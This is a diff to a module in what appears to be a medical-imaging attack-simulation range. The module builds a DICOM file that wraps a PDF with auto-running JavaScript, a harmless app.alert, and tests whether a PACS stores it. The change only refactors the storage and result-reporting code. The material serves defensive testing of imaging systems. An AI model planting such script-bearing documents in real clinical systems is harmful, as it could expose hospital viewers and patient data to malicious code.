@@ -5,7 +5,7 @@ from __future__ import annotations
 from pydicom.dataset import Dataset, FileMetaDataset
 from pydicom.uid import UID, ExplicitVRLittleEndian, generate_uid
 
-from radguard.range.attacks.kit import Attack, Context, Outcome
+from radguard.range.attacks.kit import Attack, Context, Outcome, stored_outcome
 
 PDF = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert('x')) >> >>"
        b"\nendobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
@@ -24,12 +24,8 @@ def run(ctx: Context) -> Outcome:
     ds.PatientName, ds.PatientID, ds.Modality = "RANGE^DOCUMENT", "RANGE0001", "DOC"
     ds.MIMETypeOfEncapsulatedDocument = "application/pdf"
     ds.EncapsulatedDocument = PDF + (b"\x00" if len(PDF) % 2 else b"")
-    path = ctx.tmpdir() / "report.dcm"
-    ds.save_as(path, enforce_file_format=True)
-    ctx.store("CT01", [path])
-    stored = ctx.pacs_has(str(ds.SOPInstanceUID))
-    return Outcome(success=stored, impact={"objects_stored": int(stored)},
-                   note="PDF with JavaScript stored" if stored else "not stored")
+    ctx.store_dataset("CT01", ds, "report.dcm")
+    return stored_outcome(ctx.pacs_has(str(ds.SOPInstanceUID)), yes="PDF with JavaScript stored", no="not stored")
 
 
 ATTACK = Attack(
